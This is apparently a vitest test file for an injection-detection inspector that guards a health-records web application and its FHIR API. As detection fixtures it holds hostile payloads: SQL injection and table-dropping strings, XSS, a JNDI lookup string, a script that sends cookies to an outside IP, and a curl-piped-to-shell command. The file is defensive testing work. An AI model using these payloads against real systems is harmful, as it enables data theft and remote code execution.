import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Content } from '../../../contracts/content.ts';
import type { RouteMatch } from '../../../contracts/policy.ts';
import type { InjectionException } from '../../../contracts/route-inspection.ts';
import { createInjectionInspector } from '../../../inspection/injection/index.ts';
import { type Around, FHIR_ROUTE, factsOf, form, json, matchOf, xml } from './support.ts';

const inspector = createInjectionInspector();
afterAll(() => inspector.close());

const SQL = "1' or '1'='1";
const head = (around: Around, match = matchOf()) => inspector.head(factsOf(around), match);
const content = (body: Content, match = matchOf()) => inspector.content(factsOf({}), match, body);
const encoded = encodeURIComponent;

describe('every place of a request is searched', () => {
  it.each([
    ['a segment of the path', { path: `/chart/${encoded("7' or '1'='1")}` }, 'path:1'],
    ['the path as a whole', { path: '/app/.git/config' }, 'path:0'],
    ['a value of the query', { query: `q=${encoded(SQL)}` }, 'query:q'],
    ['a name in the query', { query: `${encoded(SQL)}=1` }, 'query:1__or__1___1'],
    ['a name without a value', { query: encoded('<script>go()</script>') }, 'query:_script_go____script_'],
    ['a header of the application', { headers: { 'x-chart': SQL } }, 'header:x-chart'],
    ['what a browser calls itself', { headers: { 'user-agent': "x' or '1'='1" } }, 'header:user-agent'],
    [
      'where a browser came from',
      { headers: { referer: `https://a.example/?q=${encoded('<script>go()</script>')}` } },
      'header:referer',
    ],
    ['a type that is none', { headers: { accept: '${jndi:ldap://198.51.100.7/a}' } }, 'header:accept'],
    ['a cookie', { headers: { cookie: `a=b; theme=${encoded(SQL)}` } }, 'cookie:theme'],
    [
      'the name of a cookie',
      { headers: { cookie: '<script>go()</script>=1' } },
      'cookie:_script_go____script_',
    ],
    ['the name of a file in a header', { headers: { 'x-filename': 'a.php' } }, 'header:x-filename'],
    [
      'a header that is not forwarded',
      { dropped: [['remote-ip', '<script>go()</script>']] as const },
      'header:remote-ip',
    ],
    ['one whose name is no name', { dropped: [['x_file.name', 'a.php']] as const }, 'header:x-file-name'],
  ] satisfies [string, Around, string][])('%s', (_, around, place) => {
    expect(head(around)).toMatchObject({ reason: 'injection-suspected', status: 'bad-request', place });
  });

  it.each([
    ['a string of JSON', json({ a: [{ b: SQL }] }), '/a/0/b'],
    ['a name in JSON', json({ [SQL]: 1 }), '/1__or__1___1'],
    ['JSON that is one string', json(SQL), '/'],
    ['a field of a form', form({ note: SQL }), 'form:note'],
    ['the name of a field', form({ [SQL]: '' }), 'form:1__or__1___1'],
    ['a text of XML', xml(`<a><b>1' or '1'='1</b></a>`), '/a/b'],
    ['an attribute of XML', xml(`<a><b c="1' or '1'='1"/></a>`), '/a/b/c'],
    ['character data of XML', xml('<a><![CDATA[<script>go()</script>]]></a>'), '/a'],
    ['references of XML', xml('<a>&lt;script&gt;go()&lt;/script&gt;</a>'), '/a'],
    ['XML that is none', xml('<a><script>go()</script'), '/'],
    ['a text', { kind: 'text', mediaType: 'text/plain', bytes: Buffer.from(SQL), text: SQL } as Content, '/'],
  ])('%s', (_, body, place) => {
    expect(content(body)).toMatchObject({ reason: 'injection-suspected', place });
  });

  it('parts, their names and the names of their files', () => {
    const part = (more: object): Content => ({
      kind: 'multipart',
      mediaType: 'multipart/form-data',
      bytes: Buffer.alloc(0),
      parts: [
        { name: 'scan', fileName: undefined, mediaType: undefined, bytes: Buffer.from('fine'), ...more },
      ],
    });
    expect(content(part({}))).toBeUndefined();
    expect(content(part({ bytes: Buffer.from(SQL) }))).toMatchObject({ place: 'part:scan' });
    expect(content(part({ name: SQL }))).toMatchObject({ place: 'part:1__or__1___1' });
    expect(content(part({ fileName: 'a.php', mediaType: 'image/png' }))).toMatchObject({
      place: 'file:scan',
      rule: 'path-upload',
    });
    expect(
      content(part({ fileName: 'a.svg', mediaType: 'image/svg+xml', bytes: Buffer.from('<x onload=go()>') })),
    ).toBeDefined();
    expect(
      content(part({ fileName: 'a.txt', mediaType: 'text/plain', bytes: Buffer.from(SQL) })),
    ).toBeDefined();
    expect(
      content(part({ fileName: 'a.png', mediaType: 'image/png', bytes: Buffer.from(SQL) })),
    ).toBeUndefined();
  });

  it('what a repeated parameter becomes when its values are put together', () => {
    expect(head({ query: `q=${encoded('1 union')}&q=${encoded('select 2')}` })?.place).toBe('query:q');
    expect(content(form({ q: ['<scr', 'ipt>go()</script>'] }))?.place).toBe('form:q');
  });

  it('never tells a value', () => {
    const finding = head({ query: `${encoded('<b>secret"')}=${encoded(SQL)}` });
    expect(finding?.place).toMatch(/^query:[A-Za-z0-9_.:-]{1,64}$/);
  });
});

describe('what is ordinary passes', () => {
  it.each([
    [
      'a browser',
      {
        headers: {
          'user-agent':
            'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
          accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
          'accept-language': 'en-GB,en;q=0.9,de;q=0.8',
          'accept-encoding': 'gzip, deflate, br, zstd',
          'sec-ch-ua': '"Chromium";v="140", "Not=A?Brand";v="24"',
          'sec-ch-ua-platform': '"Windows"',
          'cache-control': 'max-age=0',
          'if-none-match': 'W/"3f-18a2b"',
          'if-modified-since': 'Sun, 22 Nov 2026 08:00:00 GMT',
          referer: 'https://emr.example/chart/17?tab=labs&from=2026-01-01',
          cookie: 'PHPSESSID=9f1c2b7a4d; theme=dark; lang=en-GB',
          origin: 'https://emr.example',
          'upgrade-insecure-requests': '1',
        },
      },
    ],
    [
      'an app',
      {
        headers: {
          'user-agent': 'okhttp/4.12.0',
          accept: 'application/fhir+json;fhirVersion=4.0',
          prefer: 'return=representation',
        },
      },
    ],
    ['a command line', { headers: { 'user-agent': 'curl/8.9.1', accept: '*/*' } }],
    [
      'a chart',
      { path: '/interface/patient_file/summary/demographics.php', query: 'pid=17&set_pid=1&date=2026-11-22' },
    ],
    ['a search', { query: "name=O'Brien&dob=1974-12-25&sort=-date&page=2" }],
    ['its own address', { query: `next=${encoded('https://emr.example/chart/17')}` }],
    ['well-known names', { path: '/.well-known/smart-configuration' }],
  ] satisfies [string, Around][])('%s', (_, around) => {
    expect(head(around)).toBeUndefined();
  });

  it('a FHIR search with its systems and references', () => {
    const query = `code=${encoded('http://loinc.org|1234-5')}&subject=Patient/17&date=ge2026-01-01&_include=Observation:subject&_lastUpdated=gt2026-01-01T00:00:00Z`;
    expect(head({ path: '/fhir/Observation', query }, FHIR_ROUTE)).toBeUndefined();
    expect(head({ path: '/fhir/Observation', query: `code=${encoded(SQL)}` }, FHIR_ROUTE)).toBeDefined();
  });
});

describe('who reads quietly', () => {
  const note = json({
    resourceType: 'Observation',
    note: [{ text: "pt's 'fine' -- or so; select diet (low Na)" }],
  });

  it('is told by the route, not by the client', () => {
    expect(content(note, FHIR_ROUTE)).toBeUndefined();
    const fhir = json((note as Extract<Content, { kind: 'json' }>).value, 'application/fhir+json');
    expect(
      content(fhir, matchOf(undefined, { mediaTypes: new Set(['application/fhir+json']) })),
    ).toBeUndefined();
    const attack = json({ resourceType: 'Observation', q: "x') RLIKE (1" }, 'application/fhir+json');
    expect(content(attack, matchOf(undefined, { mediaTypes: new Set(['application/json']) }))).toBeDefined();
  });
});

describe('exceptions', () => {
  const except = (...list: InjectionException[]) => matchOf({ mode: 'block', except: list, prose: [] });
  const both = form({ note: '`x`', other: '`x`' });

  it('count in their place, for their rule, and nowhere else', () => {
    const rule = content(form({ note: '`x`' }))?.rule as InjectionException['rule'];
    expect(rule).toBe('sql-quote');
    expect(content(form({ note: '`x`' }), except({ place: 'form:note', rule }))).toBeUndefined();
    expect(content(form({ other: '`x`' }), except({ place: 'form:note', rule }))).toMatchObject({
      place: 'form:other',
    });
    expect(content(form({ note: '`x`' }), except({ place: 'form:note', rule: 'sql-union' }))).toBeDefined();
  });

  it('do not cover another place behind the one that the engine told of', () => {
    expect(content(both, except({ place: 'form:note', rule: 'sql-quote' }))).toMatchObject({
      place: 'form:other',
    });
    expect(content(both, except({ place: 'form:other', rule: 'sql-quote' }))).toMatchObject({
      place: 'form:note',
    });
  });

  it('do not cover another rule in the same place', () => {
    const text = form({ note: '`x` <script>go()</script>' });
    expect(content(text, except({ place: 'form:note', rule: 'sql-quote' }))?.rule).toMatch(/^script-/);
  });

  it('may leave one step of a pointer open, and only that', () => {
    const body = json({ items: [{ note: '`x`' }] });
    expect(content(body, except({ place: '/items/*/note', rule: 'sql-quote' }))).toBeUndefined();
    expect(content(body, except({ place: '/items/*', rule: 'sql-quote' }))).toBeDefined();
    expect(content(body, except({ place: '/*/*/*', rule: 'sql-union' }))).toBeDefined();
  });

  it('teach nothing for routes that have none', () => {
    const around = { headers: { 'x-note': '`x`' } };
    expect(head(around, except({ place: 'header:x-note', rule: 'sql-quote' }))).toBeUndefined();
    expect(head(around)).toBeDefined();
  });
});

describe('a route that only reports', () => {
  it('says so with each finding', () => {
    expect(content(form({ q: SQL }), matchOf({ mode: 'report', except: [], prose: [] }))).toMatchObject({
      reportOnly: true,
    });
    expect(content(form({ q: SQL }))?.reportOnly).toBeUndefined();
  });
});

describe('bodies', () => {
  const { route } = matchOf();
  it('are wanted where they can hold text', () => {
    for (const type of [
      'application/json',
      'application/fhir+json',
      'text/xml',
      'multipart/form-data',
      'text/plain',
      undefined,
    ])
      expect(inspector.wants(route, type), String(type)).toBe(true);
    for (const type of ['image/png', 'application/octet-stream', 'application/dicom', 'application/pdf'])
      expect(inspector.wants(route, type), type).toBe(false);
    expect(inspector.wants({ ...route, maxBodyBytes: 0 }, 'application/json')).toBe(false);
  });
});

describe('a place that a route calls prose', () => {
  const prose = matchOf({ mode: 'block', except: [], prose: ['form:note', '/visits/*/note'] });
  const LINES = readFileSync(join(import.meta.dirname, '../clinical-lines.txt'), 'utf8')
    .split('\n')
    .filter((line) => line !== '');

  it('takes every clinical line, of which a field that is not called so refuses some', () => {
    const refused = (match: RouteMatch) =>
      LINES.filter((line) => content(form({ note: line }), match) !== undefined).length;
    expect(LINES.length).toBeGreaterThan(1000);
    expect(refused(prose)).toBe(0);
    expect(refused(matchOf())).toBeGreaterThan(0);
    expect(content(form({ note: 'Zoë’s “kept” & <i> 3%' }), prose)).toBeUndefined();
  });

  it.each([
    ['a statement', "x'; DROP TABLE patient_data; --"],
    ['a query put behind', "' UNION SELECT username, password FROM users_secure -- "],
    ['a script', '<script>fetch("https://198.51.100.7/?"+document.cookie)</script>'],
    ['a handler', '<img src=x onerror=alert(1)>'],
    ['a command', '; curl http://198.51.100.7/x | sh'],
  ])('refuses %s all the same', (_what, text) => {
    expect(content(form({ note: text }), prose)).toMatchObject({ place: 'form:note' });
    expect(content(json({ visits: [{ note: text }] }), prose)).toMatchObject({ place: '/visits/0/note' });
  });

  it('changes nothing about other places', () => {
    expect(content(form({ subject: SQL }), prose)).toMatchObject({ place: 'form:subject' });
    expect(content(json({ note: SQL }), prose)).toMatchObject({ place: '/note' });
  });
});
